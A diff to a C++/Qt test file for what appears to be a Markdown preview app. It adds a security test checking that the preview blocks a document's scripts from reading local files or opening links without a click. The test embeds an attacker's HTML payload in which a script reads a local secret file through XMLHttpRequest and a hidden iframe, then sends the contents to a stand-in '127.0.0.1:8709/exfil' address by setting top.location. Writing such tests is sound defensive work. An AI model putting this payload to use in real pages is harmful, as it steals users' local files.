@@ -6,6 +6,7 @@
 #include "window/sync_scroller.h"
 #include "window/text_edit_surface.h"
 #include "platform/workspace.h"
+#include "support/stand_in_opener.h"
 #include "web_test_support.h"
 
 #include "tzr.h"
@@ -17,6 +18,7 @@
 #include <QHash>
 #include <QImage>
 #include <QSet>
+#include <QTemporaryDir>
 #include <QAbstractTextDocumentLayout>
 #include <QScrollBar>
 #include <QTextBlock>
@@ -147,7 +149,9 @@ TEST_F(PreviewTest, ShowsDocumentsOverTwoMegabytes) {
     EXPECT_TRUE(evaluateText(*view, "document.body.lastElementChild.textContent").startsWith("Paragraph 19999 now holds"));
 }
 
-// Links that leave the document go outside; a footnote stays in the page.
+// Links that the user clicks and that leave the document go outside; a
+// footnote stays in the page. The page's own scripts clicking the same link
+// send nothing out.
 TEST_F(PreviewTest, OpensLinksThatLeaveTheDocumentOutside) {
     QDir folder(QString::fromUtf8(ORVANE_ARTIFACT_DIR));
     folder.mkpath(".");
@@ -157,9 +161,10 @@ TEST_F(PreviewTest, OpensLinksThatLeaveTheDocumentOutside) {
         text += "Filler paragraph to make the page long.\n\n";
     text += "[^n]: The note.\n";
     open(text);
-    auto clickLink = [&](const QString &selector) {
-        evaluate(*view, "document.querySelector('" + selector + "').click()");
-    };
+    evaluate(*view, "document.querySelector('a[href^=\"https\"]').click()");
+    pause(500);
+    EXPECT_TRUE(opened.isEmpty());
+    auto clickLink = [&](const QString &selector) { ASSERT_TRUE(clickElement(*view, selector)) << selector.toStdString(); };
     clickLink("a[href^=\"https\"]");
     ASSERT_TRUE(waitUntil([&] { return opened.size() == 1; }));
     EXPECT_EQ(opened.first(), QUrl("https://example.com/page"));
@@ -168,6 +173,64 @@ TEST_F(PreviewTest, OpensLinksThatLeaveTheDocumentOutside) {
     ASSERT_TRUE(waitUntil([&] { return evaluate(*view, "window.scrollY").toDouble() > 500; }));
     EXPECT_EQ(opened.size(), 1);
     EXPECT_EQ(evaluateText(*view, "document.location.href"), view->baseURL().toString() + "#fn:1");
+}
+
+// The attacker's document: its raw HTML reads a file of the user's by script
+// and through a hidden frame, and hands what it got to the desktop by
+// setting the page's location, without a click. In the preview nothing is
+// read and nothing reaches the desktop's opener; the picture beside the
+// document shows, and a link the user clicks still goes out.
+TEST_F(PreviewTest, AnAttackersDocumentReadsNoFileAndSendsNothingOutUnclicked) {
+    platform::Workspace::setOpenerForTesting({});  // the desktop's opener, a stand-in here
+    StandInOpener &opener = StandInOpener::install();
+    opener.clear();
+    QTemporaryDir root;
+    ASSERT_TRUE(QDir(root.path()).mkpath("home/notes"));
+    const QString secret = root.filePath("home/secret.txt");
+    {
+        QFile file(secret);
+        ASSERT_TRUE(file.open(QIODevice::WriteOnly));
+        file.write("TOPSECRET-42\n");
+    }
+    QImage picture(37, 23, QImage::Format_RGB32);
+    picture.fill(Qt::blue);
+    ASSERT_TRUE(picture.save(root.filePath("home/notes/pic.png"), "PNG"));
+    view->setBaseURL(QUrl::fromLocalFile(root.filePath("home/notes/notes.md")));
+
+    QString text = R"md(# Notes
+
+A picture beside the document: ![a picture](pic.png)
+
+Go to [the site](https://example.com/clicked).
+
+<pre id="got">nothing yet</pre>
+
+<script>
+setTimeout(function () { var got = 'refused'; try { var x = new XMLHttpRequest(); x.open('GET', '@SECRET@', false); x.send(); got = x.responseText; } catch (e) {}
+try { got += ' | ' + document.querySelector('iframe').contentDocument.documentElement.textContent; } catch (e) { got += ' | unreadable'; }
+document.getElementById('got').textContent = got;
+top.location = 'http://127.0.0.1:8709/exfil?d=' + encodeURIComponent(got); }, 2000);
+</script>
+
+<iframe style="display:none" src="@SECRET@"></iframe>
+)md";
+    text.replace("@SECRET@", QUrl::fromLocalFile(secret).toString(QUrl::FullyEncoded));
+    ASSERT_TRUE(convert(text).contains("x.send(); got = x.responseText;"));
+    ASSERT_TRUE(convert(text).contains("<iframe style=\"display:none\" src=\"file:///"));
+    open(text);
+    ASSERT_TRUE(waitUntil([&] { return evaluateText(*view, "document.getElementById('got').textContent") != "nothing yet"; }));
+    pause(1000);
+    const QString got = evaluateText(*view, "document.getElementById('got').textContent");
+    EXPECT_TRUE(got.startsWith("refused | ")) << got.toStdString();
+    EXPECT_FALSE(evaluateText(*view, "document.documentElement.outerHTML").contains("TOPSECRET"));
+    EXPECT_EQ(opener.calls(), QStringList());
+    EXPECT_EQ(evaluateText(*view, "document.location.href"), view->baseURL().toString(QUrl::FullyEncoded));
+    EXPECT_EQ(evaluateText(*view, "var p = document.querySelector('img'); p.naturalWidth + 'x' + p.naturalHeight"),
+              "37x23");
+
+    ASSERT_TRUE(clickElement(*view, "a[href^=\"https\"]"));
+    ASSERT_TRUE(waitUntil([&] { return !opener.calls().isEmpty(); }));
+    EXPECT_EQ(opener.calls(), QStringList{"https://example.com/clicked"});
 }
 
 // A window being resized reloads the page once, when it has settled (the
